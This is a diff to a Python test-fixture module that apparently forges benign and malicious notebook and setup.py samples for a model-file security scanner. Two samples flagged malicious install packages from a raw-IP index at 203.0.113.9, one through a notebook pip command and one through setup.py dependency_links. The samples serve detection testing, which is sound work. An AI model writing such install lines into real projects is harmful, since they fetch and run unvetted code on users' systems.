@@ -11,6 +11,7 @@ from stannary.testing.forges import forge
 from stannary.testing.forges._protobuf_writer import message, number
 from stannary.testing.forges._small_zip import small_zip
 from stannary.testing.forges.configs import PICKLE, file
+from stannary.testing.forges.notebooks import notebook
 from stannary.testing.forges.pickle_code import carried
 from stannary.testing.forges.tensorflow import saved_model
 from stannary.testing.pickle_assembler import Assembler
@@ -156,3 +157,23 @@ for _name, _inner, _bad in (("matcher_of_spacy", _ATTRIBUTES, False), ("matcher_
 @forge("everyday.pipeline_without_vectors", filename="nlp", family="spaCy", malicious=False)
 def _() -> dict[str, bytes]:
     return {"meta.json": b'{"lang": "en", "name": "x"}', "vocab/key2row": b"\x80", "entity_ruler/patterns.jsonl": b""}
+
+
+for _name, _line, _bad in (
+    ("cell_without_signs", "cd /content/model\npip install -U transformers>=4.40\nimport os\nmkdir -p out", False),
+    ("cell_without_signs_of_elsewhere", "x = 1\npip install --index-url http://203.0.113.9/simple helper", True),
+):
+    file(
+        f"everyday.{_name}",
+        "demo.ipynb",
+        notebook({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1, "source": _line}),
+        "notebooks",
+        malicious=_bad,
+    )
+
+_SETUP = 'from setuptools import setup\nsetup(name="x", url="http://example.org/x", {})\n'
+for _name, _more, _bad in (
+    ("page_of_a_project", 'author="A"', False),
+    ("links_of_a_project", 'dependency_links=[\n    "http://203.0.113.9/simple",\n]', True),
+):
+    file(f"everyday.{_name}", "setup.py", _SETUP.format(_more), "dependencies", malicious=_bad)
